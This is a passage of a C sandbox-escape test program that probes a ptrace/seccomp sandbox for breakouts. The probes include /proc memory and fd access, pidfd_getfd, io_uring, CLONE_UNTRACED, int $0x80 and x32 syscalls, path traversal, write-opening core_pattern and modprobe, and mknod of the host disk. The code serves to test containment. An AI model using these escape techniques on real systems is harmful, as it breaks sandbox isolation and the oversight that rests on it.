		(void)snprintf(what, sizeof(what), "chdir(%s) then create %s", path, name);
		got_create(what, sys(open(name, O_WRONLY | O_CREAT | O_EXCL, 0644)));
		(void)!chdir("/");
	} else {
		refused(what, -errno);
	}
}

static int ptrace_tracer(void)
{
	pid_t pid = tracer_pid();

	printf("tracer: pid %d\n", pid);
	try_ptrace("the tracer", pid);
	try_vm("the tracer", pid);
	try_proc_file(pid, "mem", O_RDWR);
	try_proc_file(pid, "environ", O_RDONLY);
	try_proc_fds(pid, "the tracer's fd");
	try_proc_paths(pid, NULL, "tracer");
	return 0;
}

static int proc_pid_fd(pid_t pid)
{
	char what[128];
	long pidfd, fd;

	printf("host process: pid %d\n", pid);
	try_proc_paths(pid, "3", "hostproc");
	try_proc_file(pid, "fd/4", O_RDONLY);
	try_proc_file(pid, "environ", O_RDONLY);
	try_proc_file(pid, "mem", O_RDWR);
	try_proc_fds(pid, "a host process's fd");
	/* the directory fd itself, then a single name relative to it */
	(void)snprintf(what, sizeof(what), "/proc/%d/fd/3", pid);
	fd = sys(open(what, O_RDONLY | O_DIRECTORY));
	if (fd >= 0) {
		got_read("openat(/proc/PID/fd/3, marker)",
			 sys(openat((int)fd, "marker", O_RDONLY)));
		got_create(
		    "openat(/proc/PID/fd/3, created-hostproc-at, O_CREAT)",
		    sys(openat((int)fd, "created-hostproc-at", O_WRONLY | O_CREAT | O_EXCL, 0644)));
		close((int)fd);
	} else {
		refused("open /proc/PID/fd/3 as a directory", fd);
	}
	/* its fds copied into ours */
	pidfd = sys(syscall(SYS_pidfd_open, pid, 0));
	if (pidfd < 0) {
		refused("pidfd_open of the host process", pidfd);
	} else {
		fd = sys(syscall(SYS_pidfd_getfd, pidfd, 3, 0));
		if (fd >= 0) {
			got_read("pidfd_getfd(3), then openat(it, marker)",
				 sys(openat((int)fd, "marker", O_RDONLY)));
			got_create("pidfd_getfd(3), then openat(it, created-pidfd, O_CREAT)",
				   sys(openat((int)fd, "created-pidfd", O_WRONLY | O_CREAT | O_EXCL,
					      0644)));
			close((int)fd);
		} else {
			refused("pidfd_getfd(3) of the host process", fd);
		}
		got_read("pidfd_getfd(4) of the host process (the marker)",
			 sys(syscall(SYS_pidfd_getfd, pidfd, 4, 0)));
		close((int)pidfd);
	}
	try_ptrace("the host process", pid);
	try_vm("the host process", pid);
	return 0;
}

/* ---- 8. fds qrun let through ------------------------------------------------------------ */

static int inherited_fd(void)
{
	char what[128], name[64], path[64];
	struct stat st;
	int n = 0;

	for (int fd = 3; fd <= 20; fd++) {
		if (fcntl(fd, F_GETFD) < 0 || fstat(fd, &st) < 0)
			continue;
		n++;
		if (S_ISREG(st.st_mode)) {
			(void)snprintf(what, sizeof(what), "read inherited fd %d (a file)", fd);
			got_read(what, sys(dup(fd)));
			continue;
		}
		if (!S_ISDIR(st.st_mode)) {
			printf("fd %d: inherited, mode %o\n", fd, st.st_mode);
			continue;
		}
		printf("fd %d: inherited, a directory\n", fd);
		(void)snprintf(what, sizeof(what), "openat(%d, marker)", fd);
		got_read(what, sys(openat(fd, "marker", O_RDONLY)));
		(void)snprintf(name, sizeof(name), "created-inherited-%d", fd);
		(void)snprintf(what, sizeof(what), "openat(%d, %s, O_CREAT)", fd, name);
		got_create(what, sys(openat(fd, name, O_WRONLY | O_CREAT | O_EXCL, 0644)));
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d/marker", fd);
		got_read(path, sys(open(path, O_RDONLY)));
		(void)snprintf(what, sizeof(what), "fchdir(%d), then open marker", fd);
		if (fchdir(fd) == 0) {
			got_read(what, sys(open("marker", O_RDONLY)));
			(void)snprintf(name, sizeof(name), "created-inherited-cwd-%d", fd);
			(void)snprintf(what, sizeof(what), "fchdir(%d), then create %s", fd, name);
			got_create(what, sys(open(name, O_WRONLY | O_CREAT | O_EXCL, 0644)));
			(void)!chdir("/");
		} else {
			refused(what, -errno);
		}
	}
	printf("inherited fds above 2: %d\n", n);
	return 0;
}

/* ---- 9. the host kernel's settings ------------------------------------------------------- */

/* Open for writing and close at once: a byte written here could change the host. */
static void try_write_open(const char *path)
{
	char what[4200];
	long fd = sys(open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY));

	(void)snprintf(what, sizeof(what), "open %s for writing", path);
	if (fd == -ENOENT)
		return; /* not on this kernel */
	if (fd >= 0) {
		close((int)fd);
		escape(what, "opened (closed again, nothing written)");
	} else {
		refused(what, fd);
	}
}

static int proc_sys_write(void)
{
	static const char *const files[] = {
		"/proc/sys/kernel/core_pattern",
		"/proc/sys/kernel/modprobe",
		"/proc/sys/kernel/hostname",
		"/proc/sys/vm/drop_caches",
		"/proc/sysrq-trigger",
		"/sys/kernel/uevent_helper",
		"/sys/kernel/mm/transparent_hugepage/enabled",
		"/sys/kernel/mm/ksm/run",
		"/sys/kernel/profiling",
		"/sys/kernel/rcu_expedited",
		"/sys/fs/cgroup/cgroup.procs",
	};
	char path[4096];
	struct dirent *e;
	struct stat st;
	DIR *d;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		try_write_open(files[i]);
	/* and whatever file directly in /sys/kernel the host lets its owner write */
	d = opendir("/sys/kernel");
	while (d && (e = readdir(d))) {
		(void)snprintf(path, sizeof(path), "/sys/kernel/%s", e->d_name);
		if (stat(path, &st) == 0 && S_ISREG(st.st_mode) && (st.st_mode & 0222))
			try_write_open(path);
	}
	if (d)
		closedir(d);
	return 0;
}

/* ---- 10. capabilities ------------------------------------------------------------------- */

static int caps(const char *max_hex)
{
	unsigned long long max = strtoull(max_hex ? max_hex : "a80425fb", NULL, 16), eff = 0,
			   prm = 0, v;
	char line[256], name[32];
	FILE *f = fopen("/proc/self/status", "r");

	if (!f) {
		refused("read /proc/self/status", -errno);
		return 1;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%31[A-Za-z]: %llx", name, &v) != 2 ||
		    (strncmp(name, "Cap", 3) && strcmp(name, "NoNewPrivs")))
			continue;
		printf("%s: %016llx\n", name, v);
		if (!strcmp(name, "CapEff"))
			eff = v;
		if (!strcmp(name, "CapPrm"))
			prm = v;
	}
	fclose(f);
	/* Permitted counts too: capset() can raise the effective set up to it. */
	if ((eff | prm) & ~max)
		escape("capabilities", "CapEff|CapPrm %016llx exceeds %016llx by %016llx",
		       eff | prm, max, (eff | prm) & ~max);
	return 0;
}

/* ---- 11. other roads past the tracer ------------------------------------------------------ */

/* One IORING_OP_OPENAT: its result (an fd or -errno). */
static long uring_openat(int ring, struct io_uring_params *p, void *sq, void *cq,
			 struct io_uring_sqe *sqes, const char *path, int flags)
{
	unsigned *sq_tail = (unsigned *)((char *)sq + p->sq_off.tail);
	unsigned *sq_mask = (unsigned *)((char *)sq + p->sq_off.ring_mask);
	unsigned *sq_array = (unsigned *)((char *)sq + p->sq_off.array);
	unsigned *cq_head = (unsigned *)((char *)cq + p->cq_off.head);
	unsigned *cq_tail = (unsigned *)((char *)cq + p->cq_off.tail);
	unsigned *cq_mask = (unsigned *)((char *)cq + p->cq_off.ring_mask);
	struct io_uring_cqe *cqes = (struct io_uring_cqe *)((char *)cq + p->cq_off.cqes);
	unsigned tail = *sq_tail, idx = tail & *sq_mask, head;
	struct io_uring_sqe *e = &sqes[idx];
	long r;

	memset(e, 0, sizeof(*e));
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (uint64_t)(uintptr_t)path;
	e->len = 0644;
	e->open_flags = (uint32_t)flags;
	sq_array[idx] = idx;
	__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	r = sys(syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
	if (r < 0)
		return r;
	head = *cq_head;
	if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
		return -EAGAIN;
	r = cqes[head & *cq_mask].res;
	__atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
	return r;
}

static int io_uring(void)
{
	struct io_uring_params p;
	size_t sq_size, cq_size;
	struct io_uring_sqe *sqes;
	void *sq, *cq;
	long ring;

	memset(&p, 0, sizeof(p));
	ring = sys(syscall(SYS_io_uring_setup, 4, &p));
	if (ring < 0) {
		refused("io_uring_setup", ring);
		return 0;
	}
	printf("io_uring_setup: allowed\n");
	sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
	sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)ring,
		  IORING_OFF_SQ_RING);
	cq = (p.features & IORING_FEAT_SINGLE_MMAP)
		 ? sq
		 : mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)ring,
			IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, (int)ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		refused("map the io_uring rings", -errno);
		return 0;
	}
	got_read("IORING_OP_OPENAT of the marker",
		 uring_openat((int)ring, &p, sq, cq, sqes, host("marker"), O_RDONLY));
	got_create("IORING_OP_OPENAT(O_CREAT) in the host directory",
		   uring_openat((int)ring, &p, sq, cq, sqes, host("created-io-uring"),
				O_WRONLY | O_CREAT | O_EXCL));
	return 0;
}

/* The child of an untraced clone: read and create by host path; ESCAPED if either worked. */
static int untraced_child(const char *how)
{
	char what[128], name[64];

	(void)snprintf(what, sizeof(what), "%s child opens the marker", how);
	got_read(what, sys(open(host("marker"), O_RDONLY)));
	(void)snprintf(name, sizeof(name), "created-%s", how);
	(void)snprintf(what, sizeof(what), "%s child creates %s", how, name);
	got_create(what, sys(open(host(name), O_WRONLY | O_CREAT | O_EXCL, 0644)));
	fflush(stdout);
	return escaped ? ESCAPED : 0;
}

static int clone_untraced(void)
{
	struct {
		uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
	} ca = { .flags = CLONE_UNTRACED, .exit_signal = SIGCHLD };
	int status;
	long pid;

	fflush(stdout);
	pid = sys(syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0));
	if (pid == 0)
		_exit(untraced_child("clone-untraced"));
	if (pid < 0)
		refused("clone(CLONE_UNTRACED)", pid);
	else if (waitpid((pid_t)pid, &status, 0) == pid && WIFEXITED(status) &&
		 WEXITSTATUS(status) == ESCAPED)
		escaped = 1;
	fflush(stdout);
	pid = sys(syscall(SYS_clone3, &ca, sizeof(ca)));
	if (pid == 0)
		_exit(untraced_child("clone3-untraced"));
	if (pid < 0)
		refused("clone3(CLONE_UNTRACED)", pid);
	else if (waitpid((pid_t)pid, &status, 0) == pid && WIFEXITED(status) &&
		 WEXITSTATUS(status) == ESCAPED)
		escaped = 1;
	return 0;
}

/* "TYPE:HEX" (from `handle`) as a struct file_handle. */
static struct file_handle *parse_handle(const char *s)
{
	struct file_handle *fh = calloc(1, sizeof(*fh) + MAX_HANDLE_SZ);
	const char *hex = strchr(s, ':');
	unsigned int b;

	if (!fh || !hex)
		return NULL;
	fh->handle_type = atoi(s);
	for (hex++; fh->handle_bytes < MAX_HANDLE_SZ && sscanf(hex, "%2x", &b) == 1; hex += 2)
		fh->f_handle[fh->handle_bytes++] = (unsigned char)b;
	return fh;
}

static int open_by_handle(const char *marker_fh, const char *dir_fh)
{
	struct file_handle *m = parse_handle(marker_fh), *d = parse_handle(dir_fh);
	long root = sys(open("/", O_RDONLY | O_DIRECTORY)), fd;

	if (!m || !d || root < 0) {
		refused("parse the handles, open /", root < 0 ? root : -EINVAL);
		return 0;
	}
	/* The rootfs and DIR are on one file system: the guest's / serves as the mount fd. */
	got_read("open_by_handle_at(marker)",
		 sys(syscall(SYS_open_by_handle_at, (int)root, m, O_RDONLY)));
	fd = sys(syscall(SYS_open_by_handle_at, (int)root, d, O_RDONLY | O_DIRECTORY));
	if (fd < 0) {
		refused("open_by_handle_at(the host directory)", fd);
		return 0;
	}
	got_create("open_by_handle_at(the host directory), then openat(created-handle)",
		   sys(openat((int)fd, "created-handle", O_WRONLY | O_CREAT | O_EXCL, 0644)));
	close((int)fd);
	return 0;
}

static int dotdot(void)
{
	static const char up[] = "../../../../../../../../../../../../../../../..";
	char path[8192], cwd[4096];
	long root;

	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	printf("getcwd after 64 chdir(..): %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : strerror(errno));
	(void)snprintf(path, sizeof(path), ".%s", host("marker"));
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "%s%s", up, host("marker"));
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "%s%s", up, host("created-dotdot-cwd"));
	got_create(path, sys(open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	root = sys(open("/", O_RDONLY | O_DIRECTORY));
	if (root < 0) {
		refused("open /", root);
		return 0;
	}
	(void)snprintf(path, sizeof(path), "%s%s", up, host("marker"));
	got_read("openat(dirfd of /, ../../..DIR/marker)", sys(openat((int)root, path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "%s%s", up, host("created-dotdot-at"));
	got_create("openat(dirfd of /, ../../..DIR/created-dotdot-at, O_CREAT)",
		   sys(openat((int)root, path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	(void)snprintf(path, sizeof(path), "/proc/self/root/%s%s", up, host("marker"));
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "/proc/self/root/%s%s", up, host("created-dotdot-root"));
	got_create(path, sys(open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	(void)snprintf(path, sizeof(path), "/proc/self/cwd/%s%s", up, host("marker"));
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%ld/%s%s", root, up, host("marker"));
	got_read(path, sys(open(path, O_RDONLY)));
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%ld/%s%s", root, up,
		       host("created-dotdot-fd"));
	got_create(path, sys(open(path, O_WRONLY | O_CREAT | O_EXCL, 0644)));
	(void)snprintf(path, sizeof(path), "%s%s", up, host("created-dotdot-dir"));
	got_zero("mkdirat(dirfd of /, ../../..DIR/created-dotdot-dir)",
		 sys(mkdirat((int)root, path, 0755)), "made");
	return 0;
}

/* The i386 ABI from a 64-bit process: arguments must lie below 4 GiB (static, non-PIE). */
static long int80(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	return ret;
}

static char low_buf[4096];

/* The i386 half, in a child: a kernel without the i386 ABI answers int $0x80 with SIGSEGV. */
static int i386_child(void)
{
	char *p = host("marker");
	long fd, n;

	fd = int80(5 /* i386 open */, (long)(uintptr_t)p, O_RDONLY, 0);
	if (fd >= 0) {
		n = int80(3 /* i386 read */, fd, (long)(uintptr_t)low_buf, sizeof(low_buf) - 1);
		escape("int $0x80 open of the marker", "read \"%s\"", text(low_buf, n));
	} else {
		refused("int $0x80 open of the marker", fd);
	}
	fd = int80(8 /* i386 creat */, (long)(uintptr_t)host("created-int80"), 0644, 0);
	got_create("int $0x80 creat in the host directory", fd);
	got_zero("int $0x80 mkdir in the host directory",
		 int80(39 /* i386 mkdir */, (long)(uintptr_t)host("created-int80-dir"), 0755, 0),
		 "made");
	fflush(stdout);
	return escaped ? ESCAPED : 0;
}

static int i386_abi(void)
{
	int status;
	pid_t pid;

	if ((uintptr_t)host("marker") > 0xffffffffu) {
		refused("int $0x80: a buffer above 4 GiB (PIE build?)", -EINVAL);
		return 0;
	}
	fflush(stdout);
	pid = fork();
	if (pid == 0)
		_exit(i386_child());
	if (pid < 0)
		refused("fork", -errno);
	else if (waitpid(pid, &status, 0) == pid && WIFSIGNALED(status))
		printf("int $0x80: killed by signal %d (no i386 ABI in this kernel?)\n",
		       WTERMSIG(status));
	else if (WIFEXITED(status) && WEXITSTATUS(status) == ESCAPED)
		escaped = 1;
	/* x32: x86_64 numbers with bit 30 set */
	got_read("x32 openat of the marker",
		 sys(syscall(X32_BIT | 257, AT_FDCWD, host("marker"), O_RDONLY, 0)));
	got_create("x32 creat in the host directory",
		   sys(syscall(X32_BIT | 85, host("created-x32"), 0644)));
	return 0;
}

/* ---- 12. sockets, signals, devices ------------------------------------------------------ */

static socklen_t sun_fill(struct sockaddr_un *sa, const char *addr)
{
	size_t len = strlen(addr);

	memset(sa, 0, sizeof(*sa));
	sa->sun_family = AF_UNIX;
	if (len >= sizeof(sa->sun_path))
		return 0;
	memcpy(sa->sun_path, addr, len);
	if (addr[0] == '@')
		sa->sun_path[0] = '\0'; /* abstract: no file behind it */
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len + (addr[0] != '@'));
}

static void try_connect(const char *what, const char *addr)
{
	struct sockaddr_un sa;
	socklen_t len = sun_fill(&sa, addr);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char buf[512];
	ssize_t n;

	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, len) < 0) {
		refused(what, -errno);
	} else {
		n = read(fd, buf, sizeof(buf) - 1);
		escape(what, "connected, read \"%s\"", text(buf, n));
	}
	if (fd >= 0)
		close(fd);
}

static int unix_path(void)
{
	struct sockaddr_un sa;
	socklen_t len = sun_fill(&sa, host("created-socket"));
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	try_connect("connect to DIR/host.sock by its host path", host("host.sock"));
	got_zero("bind a socket at DIR/created-socket",
		 fd < 0 ? -errno : sys(bind(fd, (struct sockaddr *)&sa, len)), "bound");
	return 0;
}

static int abstract(const char *name)
{
	char addr[108], what[160];

	(void)snprintf(addr, sizeof(addr), "@%s", name);
	(void)snprintf(what, sizeof(what), "connect to the host's abstract socket %s", addr);
	try_connect(what, addr);
	return 0;
}

static int host_signal(pid_t pid)
{
	got_zero("kill(host process, 0)", sys(kill(pid, 0)), "allowed");
	got_zero("kill(host process, SIGCONT)", sys(kill(pid, SIGCONT)), "delivered");
	return 0;
}

/* The block device under the rootfs (and DIR: the test keeps them on one file system). */
static int block_device(void)
{
	char path[256], line[256], dev[64] = "";
	struct stat st;
	FILE *f;
	long fd;

	if (stat("/", &st) < 0) {
		refused("stat /", -errno);
		return 0;
	}
	printf("the rootfs is on device %u:%u\n", major(st.st_dev), minor(st.st_dev));
	(void)snprintf(path, sizeof(path), "/sys/dev/block/%u:%u/uevent", major(st.st_dev),
		       minor(st.st_dev));
	f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "DEVNAME=%63s", dev) == 1)
			break;
	}
	if (f)
		fclose(f);
	if (dev[0]) {
		(void)snprintf(path, sizeof(path), "/dev/%s", dev);
		fd = sys(open(path, O_RDONLY | O_NONBLOCK));
		if (fd >= 0) {
			close((int)fd);
			escape(path, "opened the host's disk");
		} else {
			refused(path, fd);
		}
	}
	if (major(st.st_dev) != 0) {
		(void)unlink("/tmp/t307-blk");
		fd = sys(mknod("/tmp/t307-blk", S_IFBLK | 0600, st.st_dev));
		if (fd == 0)
			fd = sys(open("/tmp/t307-blk", O_RDONLY | O_NONBLOCK));
		/*
		 * Under an emulated root (tracer/owners.c) mknod makes an empty regular file
		 * that stat shows as the device: only data read from it is the disk.
		 */
		if (fd >= 0 && read((int)fd, line, sizeof(line)) > 0) {
			close((int)fd);
			escape("mknod a node of the host's disk in the rootfs, then read it",
			       "read the host's disk");
		} else if (fd >= 0) {
			close((int)fd);
			refused("mknod a node of the host's disk in the rootfs, then read it (an "
				"empty file in its place)",
				-ENODEV);
		} else {
			refused("mknod a node of the host's disk in the rootfs, then read it", fd);
		}
		(void)unlink("/tmp/t307-blk");
	}
	fd = sys(open("/dev/mem", O_RDONLY | O_NONBLOCK));
	if (fd >= 0) {
		close((int)fd);
		escape("/dev/mem", "opened");
	} else {
		refused("/dev/mem", fd);
	}
	return 0;
}

/* ---- host-side helpers -------------------------------------------------------------------- */

static int serve(const char *addr, const char *secret)
{
	struct sockaddr_un sa;
	socklen_t len = sun_fill(&sa, addr);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), c;

	if (!len || fd < 0 || bind(fd, (struct sockaddr *)&sa, len) < 0 || listen(fd, 16) < 0) {
		perror("serve");
		return 1;
	}
	printf("listening\n");
	fflush(stdout);
	alarm(900); /* gone in 15 minutes even if the test that started it was killed */
	for (;;) {
		c = accept(fd, NULL, NULL);
		if (c < 0)
			continue;
		(void)!write(c, secret, strlen(secret));
		close(c);
	}
}

static int handle(const char *path)
{
	struct file_handle *fh = calloc(1, sizeof(*fh) + MAX_HANDLE_SZ);
	int mount_id;

	if (!fh)
		return 1;
	fh->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, fh, &mount_id, 0) < 0) {
		perror("name_to_handle_at");
		return 1;
	}
	printf("%d:", fh->handle_type);
	for (unsigned int i = 0; i < fh->handle_bytes; i++)
		printf("%02x", fh->f_handle[i]);
	putchar('\n');
	return 0;
}

int main(int argc, char **argv)
{
	const char *op = argc > 1 ? argv[1] : "";
	double secs = argc > 3 ? atof(argv[3]) : 2;
	int r = -1;

	setvbuf(stdout, NULL, _IOLBF, 0);
	dir = argc > 2 ? argv[2] : "/nonexistent";
	if (!strcmp(op, "forged-trampoline"))
		r = forged_trampoline();
	else if (!strcmp(op, "seccomp-trace-data"))
		r = seccomp_trace_data();
	else if (!strcmp(op, "seccomp-user-notif"))
		r = seccomp_user_notif();
	else if (!strcmp(op, "scratch-race"))
		r = scratch_race(secs, false);
	else if (!strcmp(op, "scratch-vmwritev"))
		r = scratch_race(secs, true);
	else if (!strcmp(op, "symlink-swap"))
		r = symlink_swap(secs);
	else if (!strcmp(op, "ptrace-tracer"))
		r = ptrace_tracer();
	else if (!strcmp(op, "proc-pid-fd") && argc == 4)
		r = proc_pid_fd((pid_t)atoi(argv[3]));
	else if (!strcmp(op, "inherited-fd"))
		r = inherited_fd();
	else if (!strcmp(op, "proc-sys-write"))
		r = proc_sys_write();
	else if (!strcmp(op, "caps"))
		r = caps(argc > 2 ? argv[2] : NULL);
	else if (!strcmp(op, "io-uring"))
		r = io_uring();
	else if (!strcmp(op, "clone-untraced"))
		r = clone_untraced();
	else if (!strcmp(op, "open-by-handle") && argc == 5)
		r = open_by_handle(argv[3], argv[4]);
	else if (!strcmp(op, "dotdot"))
		r = dotdot();
	else if (!strcmp(op, "int80"))
		r = i386_abi();
	else if (!strcmp(op, "unix-path"))
		r = unix_path();
	else if (!strcmp(op, "abstract") && argc == 3)
		r = abstract(argv[2]);
	else if (!strcmp(op, "host-signal") && argc == 3)
		r = host_signal((pid_t)atoi(argv[2]));
	else if (!strcmp(op, "block-device"))
		r = block_device();
	else if (!strcmp(op, "serve") && argc == 4)
		return serve(argv[2], argv[3]);
	else if (!strcmp(op, "handle") && argc == 3)
		return handle(argv[2]);
	else if (!strcmp(op, "landlock-abi")) {
		long abi = syscall(SYS_landlock_create_ruleset, NULL, 0, 1UL /* VERSION */);

		printf("%ld\n", abi < 0 ? 0 : abi);
		return 0;
	}
	if (r < 0) {
		fprintf(stderr, "escape: bad usage (see the top of escape.c)\n");
		return 2;
	}
	fflush(stdout);
	return escaped ? ESCAPED : r;
}
